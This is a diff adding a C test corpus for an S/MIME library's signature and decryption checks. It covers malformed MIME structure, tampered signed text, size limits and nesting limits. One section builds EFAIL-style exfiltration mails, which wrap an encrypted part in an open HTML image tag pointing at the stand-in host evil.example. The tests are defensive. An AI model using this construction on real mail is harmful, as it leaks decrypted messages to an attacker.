@@ -1,0 +1,278 @@
+/* Tricks with headers, parts, boundaries and encodings around a good signature or encryption. */
+#include "tests/mail/corpus.h"
+
+#include <string.h>
+
+#include "tests/mail/scene.h"
+
+static GBytes *
+detached(const char *unused)
+{
+    return scene_detached(scene_identity("alice-p256-sign"), NULL);
+}
+
+static GBytes *
+opaque(const char *unused)
+{
+    return scene_opaque(scene_identity("alice-p256-sign"), NULL);
+}
+
+static GBytes *
+sealed(const char *unused)
+{
+    g_autoptr(GBytes) mail = world_bytes(WORLD_MAIL);
+
+    return scene_sealed(mail, "alice-rsa-decrypt", FALSE);
+}
+
+static GBytes *
+as_it_stands(const char *mail)
+{
+    return world_bytes(mail);
+}
+
+/* The entity of a mail: what follows its fields that are not of MIME. */
+static const char *
+entity_in(const char *mail)
+{
+    const char *start = strstr(mail, "MIME-Version: 1.0\r\n");
+
+    return start ? start + strlen("MIME-Version: 1.0\r\n") : mail;
+}
+
+/* -- among others ----------------------------------------------------------------------------- */
+
+/* `frame` has %s where the entity stands; lines end in CRLF. */
+static GBytes *
+frame(const char *text, GBytes *inner)
+{
+    g_autofree char *mail = scene_text(inner);
+    g_auto(GStrv) pieces = g_strsplit(text, "%s", 2);
+    g_autofree char *whole = g_strconcat("From: Alice <alice@example.org>\r\nMIME-Version: 1.0\r\n",
+                                         pieces[0], entity_in(mail), pieces[1], NULL);
+
+    return world_bytes(whole);
+}
+
+static GBytes *
+framed_signed(const char *text)
+{
+    g_autoptr(GBytes) inner = detached(NULL);
+
+    return frame(text, inner);
+}
+
+static GBytes *
+framed_sealed(const char *text)
+{
+    g_autoptr(GBytes) inner = sealed(NULL);
+
+    return frame(text, inner);
+}
+
+/* The frame itself is what was sealed. */
+static GBytes *
+sealed_around_sealed(const char *text)
+{
+    g_autoptr(GBytes) inner = framed_sealed(text);
+
+    return scene_sealed(inner, "alice-p256-decrypt", FALSE);
+}
+
+/* Bob signs what somebody else's sealed part stands in. */
+static GBytes *
+signed_around_sealed(const char *text)
+{
+    g_autoptr(GBytes) inner = framed_sealed(text);
+    g_autofree char *mail = scene_text(inner);
+
+    return scene_detached(scene_identity("bob-rsa-sign"), mail);
+}
+
+#define HEAD(type) "Content-Type: multipart/" type "; boundary=f\r\n\r\n"
+#define PART       "--f\r\n"
+#define END        "\r\n--f--\r\n"
+#define TEXT       PART "Content-Type: text/plain\r\n\r\ntext\r\n"
+#define OPEN_IMAGE PART "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n"
+#define END_IMAGE  "\r\n" PART "Content-Type: text/html\r\n\r\n\">"
+
+/* -- limits ----------------------------------------------------------------------------------- */
+
+/* Nested opaque signatures, as many as `count` says. */
+static GBytes *
+nested(const char *count)
+{
+    g_autoptr(GBytes) mail = world_bytes(WORLD_MAIL);
+
+    for (int i = atoi(count); i > 0; i--) {
+        g_autofree char *text = scene_text(mail);
+
+        g_bytes_unref(mail);
+        mail = scene_opaque(scene_identity("alice-p256-sign"), text);
+    }
+    return g_steal_pointer(&mail);
+}
+
+static GBytes *
+nested_sealed(const char *count)
+{
+    g_autoptr(GBytes) mail = world_bytes(WORLD_MAIL);
+
+    for (int i = atoi(count); i > 0; i--) {
+        g_autoptr(GBytes) inner = g_steal_pointer(&mail);
+
+        mail = scene_sealed(inner, "alice-p256-decrypt", i % 2 == 0);
+    }
+    return g_steal_pointer(&mail);
+}
+
+/* A multipart/signed of so many parts. */
+static GBytes *
+many_parts(const char *count)
+{
+    g_autoptr(GString) mail =
+        g_string_new("From: alice@example.org\r\nContent-Type: multipart/signed; boundary=f\r\n");
+
+    for (int i = atoi(count); i > 0; i--)
+        g_string_append(mail, "\r\n--f\r\n\r\n");
+    g_string_append(mail, END);
+    return world_bytes(mail->str);
+}
+
+static GBytes *
+many_fields(const char *count)
+{
+    g_autoptr(GBytes) mail = detached(NULL);
+    g_autoptr(GString) fields = g_string_new(NULL);
+
+    for (int i = atoi(count); i > 0; i--)
+        g_string_append(fields, "X: y\r\n");
+    g_string_append(fields, "MIME-Version: 1.0\r\n");
+    return world_replace(mail, "MIME-Version: 1.0\r\n", fields->str);
+}
+
+/* -- the table -------------------------------------------------------------------------------- */
+
+const CorpusRow corpus_mime[] = {
+    {"mime/detached/is-ok", "verify", "ok", NULL, detached},
+    {"mime/opaque/is-ok", "verify", "ok", NULL, opaque},
+    {"mime/sealed/is-opened", "open", "decrypted-noauth", NULL, sealed},
+    /* What other writers and gateways do to good mails. */
+    {"mime/odd-but-good/x-type", "verify", "ok", NULL, opaque, NULL, "application/pkcs7-mime",
+     "application/x-pkcs7-mime"},
+    {"mime/odd-but-good/x-signature", "verify", "ok", NULL, detached, NULL,
+     "application/pkcs7-signature; name", "application/x-pkcs7-signature; name"},
+    {"mime/odd-but-good/octet-stream-p7m", "verify", "ok", NULL, opaque, NULL,
+     "application/pkcs7-mime; smime-type=signed-data", "application/octet-stream; x=y"},
+    {"mime/odd-but-good/octet-stream-p7s", "verify", "ok", NULL, detached, NULL,
+     "application/pkcs7-signature; name", "application/octet-stream; name"},
+    {"mime/odd-but-good/type-in-capitals", "verify", "ok", NULL, detached, NULL, "multipart/signed",
+     "MULTIPART/Signed"},
+    {"mime/odd-but-good/comments-in-type", "verify", "ok", NULL, detached, NULL,
+     "multipart/signed;", "multipart/signed (a (comment)) ;"},
+    {"mime/odd-but-good/other-micalg", "verify", "ok", NULL, detached, NULL, "micalg=\"sha-256\"",
+     "micalg=unknown"},
+    {"mime/odd-but-good/preamble", "verify", "ok", NULL, detached, NULL, "\r\n\r\n--the-boundary",
+     "\r\n\r\nThis is a signed message\r\n\r\n--the-boundary"},
+    {"mime/odd-but-good/blanks-behind-boundary", "verify", "ok", NULL, detached, NULL,
+     "--the-boundary--", "--the-boundary--  \t"},
+    /* Changed on the way. */
+    {"mime/changed/text", "verify", "bad-signature", "changed after it was signed", detached, NULL,
+     "From the keeper", "From the thief!"},
+    {"mime/changed/trailing-blank", "verify", "bad-signature", "changed after it was signed",
+     detached, NULL, "blanks  \r\n", "blanks \r\n"},
+    {"mime/changed/type-of-the-part", "verify", "bad-signature", "changed after it was signed",
+     detached, NULL, "text/plain; charset=utf-8", "text/html; charset=utf-7"},
+    {"mime/changed/line-end-before-boundary", "verify", "bad-signature",
+     "changed after it was signed", detached, NULL, "\r\n--the-boundary\r\nContent-Type: appl",
+     "\r\n\r\n--the-boundary\r\nContent-Type: appl"},
+    {"mime/changed/base64", "verify", "malformed", "cannot be read", opaque, NULL, "\r\n\r\nMI",
+     "\r\n\r\n!!"},
+    /* Two readers, two mails. */
+    {"mime/type-twice", "verify", "malformed", "more than one Content-Type", detached, NULL,
+     "MIME-Version: 1.0\r\n", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n"},
+    {"mime/type-twice-in-the-signature-part", "verify", "malformed", "signature part", detached,
+     NULL, "Content-Type: application/pkcs7-signature",
+     "Content-Type: text/plain\r\nContent-Type: application/pkcs7-signature"},
+    {"mime/encoding-twice", "open", "malformed", "more than one Content-Transfer-Encoding", sealed,
+     NULL, "Content-Transfer-Encoding: base64",
+     "Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64"},
+    {"mime/boundary-twice", "verify", "malformed", "one way only", detached, NULL,
+     "boundary=", "boundary=decoy; boundary="},
+    {"mime/boundary-empty", "verify", "malformed", "usable boundary", detached, NULL,
+     "boundary=\"the-boundary\"", "boundary=\"\""},
+    {"mime/boundary-missing", "verify", "malformed", "usable boundary", detached, NULL,
+     "boundary=\"the-boundary\"", "x=\"the-boundary\""},
+    {"mime/boundary-huge", "verify", "malformed", "usable boundary", detached, NULL,
+     "boundary=\"the-boundary\"",
+     "boundary=\"01234567890123456789012345678901234567890123456789012345678901234567890123456789"
+     "01234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901"
+     "234567890123456789012345678901234567890123456789\""},
+    {"mime/open-comment-in-type", "verify", "malformed", "one way only", detached, NULL,
+     "multipart/signed;", "multipart/signed; ((x);"},
+    {"mime/open-quote-in-type", "verify", "malformed", "one way only", detached, NULL,
+     "boundary=\"the-boundary\"", "boundary=\"the-boundary"},
+    {"mime/header-line-is-no-field", "verify", "malformed", "is no field", detached, NULL,
+     "MIME-Version: 1.0\r\n", "no field at all\r\nMIME-Version: 1.0\r\n"},
+    {"mime/third-part", "verify", "malformed", "exactly two parts", detached, NULL,
+     "\r\n--the-boundary--", "\r\n--the-boundary\r\n\r\nforeign text\r\n--the-boundary--"},
+    {"mime/foreign-part-in-front", "verify", "malformed", "exactly two parts", detached, NULL,
+     "--the-boundary\r\n", "--the-boundary\r\n\r\nforeign text\r\n--the-boundary\r\n"},
+    {"mime/only-one-part", "verify", "malformed", "exactly two parts", detached, NULL,
+     "--the-boundary\r\nContent-Type: app", "Content-Type: app"},
+    {"mime/no-last-boundary", "verify", "malformed", "last boundary", detached, NULL,
+     "--the-boundary--", "--the-boundary-"},
+    {"mime/last-boundary-first", "verify", "malformed", "ends before its first part", detached,
+     NULL, "\r\n\r\n--the-boundary", "\r\n\r\n--the-boundary--\r\n--the-boundary"},
+    {"mime/text-behind-boundary", "verify", "malformed", "two parts", detached, NULL,
+     "--the-boundary\r\nContent-Type: app", "--the-boundary evil\r\nContent-Type: app"},
+    {"mime/signature-part-is-text", "verify", "malformed", "signature part", detached, NULL,
+     "Content-Type: application/pkcs7-signature", "Content-Type: text/plain"},
+    {"mime/signature-part-of-unknown-encoding", "verify", "malformed", "signature part", detached,
+     NULL, "Content-Transfer-Encoding: base64", "Content-Transfer-Encoding: x-uuencode"},
+    {"mime/signed-by-another-protocol", "verify", "unsupported", "not as S/MIME", detached, NULL,
+     "protocol=\"application/pkcs7-signature\"", "protocol=\"application/pgp-signature\""},
+    {"mime/list-footer-behind-base64", "open", "malformed", "cannot be read", sealed, NULL,
+     "\r\n\r\n", "\r\n\r\n_______________\r\nList footer\r\n"},
+    /* Something else around a signed part. */
+    {"mime/beside-signed/list-footer", "open", "partially-signed", "a part of it is signed",
+     framed_signed, HEAD("mixed") PART "%s\r\n" TEXT END},
+    {"mime/beside-signed/alternative", "verify", "partially-signed", "a part of it is signed",
+     framed_signed, HEAD("alternative") TEXT PART "%s" END},
+    {"mime/beside-signed/deep", "open", "partially-signed", "a part of it is signed", framed_signed,
+     HEAD("mixed") TEXT PART
+     "Content-Type: multipart/mixed; boundary=g\r\n\r\n--g\r\n%s\r\n--g--" END},
+    /* EFAIL, direct exfiltration: a decrypted text would end up in a foreign HTML part. */
+    {"mime/efail/image-around-sealed", "open", "partially-encrypted", "open it by itself",
+     framed_sealed, HEAD("mixed") OPEN_IMAGE PART "%s" END_IMAGE END},
+    {"mime/efail/image-before-sealed", "decrypt", "partially-encrypted", "open it by itself",
+     framed_sealed, HEAD("related") OPEN_IMAGE PART "%s" END},
+    {"mime/efail/sealed-as-alternative", "open", "partially-encrypted", "open it by itself",
+     framed_sealed, HEAD("alternative") TEXT PART "%s" END},
+    {"mime/efail/only-part-of-a-multipart", "open", "partially-encrypted", "open it by itself",
+     framed_sealed, HEAD("mixed") PART "%s" END},
+    {"mime/efail/inside-what-was-sealed", "open", "partially-encrypted", "open it by itself",
+     sealed_around_sealed, HEAD("mixed") OPEN_IMAGE PART "%s" END_IMAGE END},
+    {"mime/efail/inside-what-another-signed", "open", "address-mismatch", "bob@example.org",
+     signed_around_sealed, HEAD("mixed") OPEN_IMAGE PART "%s" END_IMAGE END},
+    /* Limits. */
+    {"mime/limits/eight-layers", "open", "ok", NULL, nested, "8"},
+    {"mime/limits/nine-layers", "open", "nesting-limit", "more layers", nested, "9"},
+    {"mime/limits/nine-sealed-layers", "open", "nesting-limit", "more layers", nested_sealed, "9"},
+    {"mime/limits/two-thousand-parts", "verify", "malformed", "too many parts", many_parts, "2000"},
+    {"mime/limits/three-thousand-fields", "verify", "malformed", "too many header fields",
+     many_fields, "3000"},
+    /* No mails. */
+    {"mime/nothing", "open", "malformed", "no mail", as_it_stands, ""},
+    {"mime/no-header", "open", "malformed", "no mail", as_it_stands, "no header at all"},
+    {"mime/empty-body", "open", "malformed", "cannot be read", as_it_stands,
+     "From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n\r\n"},
+    {"mime/body-is-no-cms", "open", "malformed", "cannot be read", as_it_stands,
+     "From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n\r\nhello"},
+    {"mime/plain", "open", "ok-plain", NULL, as_it_stands, WORLD_MAIL},
+    {"mime/plain-is-not-sealed", "decrypt", "ok-plain", "nothing to decrypt", as_it_stands,
+     WORLD_MAIL},
+    {"mime/plain-is-not-signed", "verify", "unsigned", "nobody signed it", as_it_stands,
+     WORLD_MAIL},
+    {0},
+};
